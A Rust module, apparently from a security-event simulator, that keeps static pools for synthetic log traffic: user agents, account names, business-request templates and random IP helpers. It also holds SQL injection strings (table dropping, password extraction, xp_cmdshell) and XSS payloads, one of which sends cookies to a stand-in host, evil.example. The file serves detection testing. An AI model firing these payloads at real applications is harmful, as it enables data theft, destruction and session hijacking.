//! Pattern Catalog
//!
//! Static, read-only tables consumed by the event builders:
//! - injection / script payload pools
//! - business-activity templates for normal background traffic
//! - user-agent and account-name pools
//! - synthetic network identity helpers
//!
//! Selection from any pool is uniform-random. Nothing here mutates or
//! persists anything.

use crate::event::{EventType, SecurityEvent, Severity};
use rand::prelude::*;
use rand::rngs::ThreadRng;
use rand_distr::{Distribution, LogNormal};
use serde_json::{Value, json};
use std::collections::HashMap;

/// SQL injection probe strings
pub const SQL_PAYLOADS: &[&str] = &[
    "' OR 1=1 --",
    "' OR '1'='1",
    "admin' --",
    "1; DROP TABLE users",
    "UNION SELECT username, password FROM users --",
    "' UNION SELECT NULL, table_name FROM information_schema.tables --",
    "1' AND SLEEP(5) --",
    "'; EXEC xp_cmdshell('whoami') --",
];

/// Script-injection payload strings
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "\"><script>document.location='http://evil.example/c?'+document.cookie</script>",
];

/// Browser/client identification pool for normal traffic
pub const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15",
    "RedSim-Client/1.0",
    "Go-http-client/1.1",
];

/// Plausible account names for login/escalation events
pub const USERNAMES: &[&str] = &[
    "jsmith",
    "mgarcia",
    "achen",
    "dpatel",
    "kwilson",
    "admin",
    "svc_backup",
    "svc_deploy",
];

/// One normal-traffic shape: event kind, request surface, plausible
/// outcomes, and a generator for activity-specific metadata fields.
pub struct BusinessTemplate {
    pub event_type: EventType,
    pub url: &'static str,
    pub method: &'static str,
    pub statuses: &'static [u16],
    pub extra: fn(&mut ThreadRng) -> HashMap<String, Value>,
}

/// The fixed set of business-activity templates for the normal loop
pub static BUSINESS_TEMPLATES: &[BusinessTemplate] = &[
    BusinessTemplate {
        event_type: EventType::UserLogin,
        url: "/login",
        method: "POST",
        statuses: &[200, 200, 200, 302],
        extra: login_extra,
    },
    BusinessTemplate {
        event_type: EventType::ApiRequest,
        url: "/api/v1/products",
        method: "GET",
        statuses: &[200, 200, 200, 200, 404],
        extra: api_extra,
    },
    BusinessTemplate {
        event_type: EventType::FileDownload,
        url: "/files/quarterly-report.pdf",
        method: "GET",
        statuses: &[200, 200, 304],
        extra: download_extra,
    },
    BusinessTemplate {
        event_type: EventType::FileUpload,
        url: "/api/v1/documents",
        method: "POST",
        statuses: &[201, 201, 201, 413],
        extra: upload_extra,
    },
];

fn login_extra(rng: &mut ThreadRng) -> HashMap<String, Value> {
    let mut extra = HashMap::new();
    extra.insert("username".to_string(), json!(random_username(rng)));
    extra.insert("success".to_string(), json!(true));
    extra
}

fn api_extra(rng: &mut ThreadRng) -> HashMap<String, Value> {
    let mut extra = HashMap::new();
    extra.insert(
        "responseSize".to_string(),
        json!(rng.random_range(256..20_000)),
    );
    extra.insert("page".to_string(), json!(rng.random_range(1..40)));
    extra
}

fn download_extra(rng: &mut ThreadRng) -> HashMap<String, Value> {
    // LogNormal gives a realistic long tail of file sizes
    let size_dist = LogNormal::new(13.0, 1.2).unwrap();
    let mut extra = HashMap::new();
    extra.insert(
        "sizeBytes".to_string(),
        json!(size_dist.sample(rng) as u64),
    );
    extra.insert("filename".to_string(), json!("quarterly-report.pdf"));
    extra
}

fn upload_extra(rng: &mut ThreadRng) -> HashMap<String, Value> {
    let size_dist = LogNormal::new(12.0, 1.0).unwrap();
    let mut extra = HashMap::new();
    extra.insert(
        "sizeBytes".to_string(),
        json!(size_dist.sample(rng) as u64),
    );
    extra.insert("username".to_string(), json!(random_username(rng)));
    extra
}

impl BusinessTemplate {
    /// Build one normal-traffic event from this template.
    ///
    /// Adds the template's request fields and a latency sample on top of
    /// the activity-specific extras.
    pub fn build(&self, source_identity: &str) -> SecurityEvent {
        let mut rng = rand::rng();
        let mut metadata = (self.extra)(&mut rng);

        metadata.insert("url".to_string(), json!(self.url));
        metadata.insert("method".to_string(), json!(self.method));
        metadata.insert(
            "statusCode".to_string(),
            json!(*self.statuses.choose(&mut rng).unwrap()),
        );
        metadata.insert(
            "userAgent".to_string(),
            json!(*USER_AGENTS.choose(&mut rng).unwrap()),
        );
        // ~55ms mean with a realistic tail
        let latency_dist = LogNormal::new(4.0, 0.5).unwrap();
        metadata.insert(
            "durationMs".to_string(),
            json!(latency_dist.sample(&mut rng) as u64),
        );

        SecurityEvent::new(
            self.event_type,
            source_identity,
            "web-portal",
            Severity::Low,
            metadata,
        )
    }
}

/// Pick one business template uniformly at random
pub fn pick_business_template() -> &'static BusinessTemplate {
    BUSINESS_TEMPLATES.choose(&mut rand::rng()).unwrap()
}

/// Synthetic peer address - mix of internal and external ranges
pub fn random_ip() -> String {
    let mut rng = rand::rng();
    if rng.random_bool(0.7) {
        // Internal (RFC 1918)
        format!(
            "10.{}.{}.{}",
            rng.random_range(0..255),
            rng.random_range(0..255),
            rng.random_range(1..255)
        )
    } else {
        format!(
            "{}.{}.{}.{}",
            rng.random_range(50..200),
            rng.random_range(0..255),
            rng.random_range(0..255),
            rng.random_range(1..255)
        )
    }
}

/// Synthetic attacker address - always external-looking
pub fn random_external_ip() -> String {
    let mut rng = rand::rng();
    format!(
        "{}.{}.{}.{}",
        rng.random_range(50..220),
        rng.random_range(0..255),
        rng.random_range(0..255),
        rng.random_range(1..255)
    )
}

pub fn random_user_agent() -> &'static str {
    USER_AGENTS.choose(&mut rand::rng()).copied().unwrap()
}

pub fn random_username(rng: &mut ThreadRng) -> &'static str {
    USERNAMES.choose(rng).copied().unwrap()
}
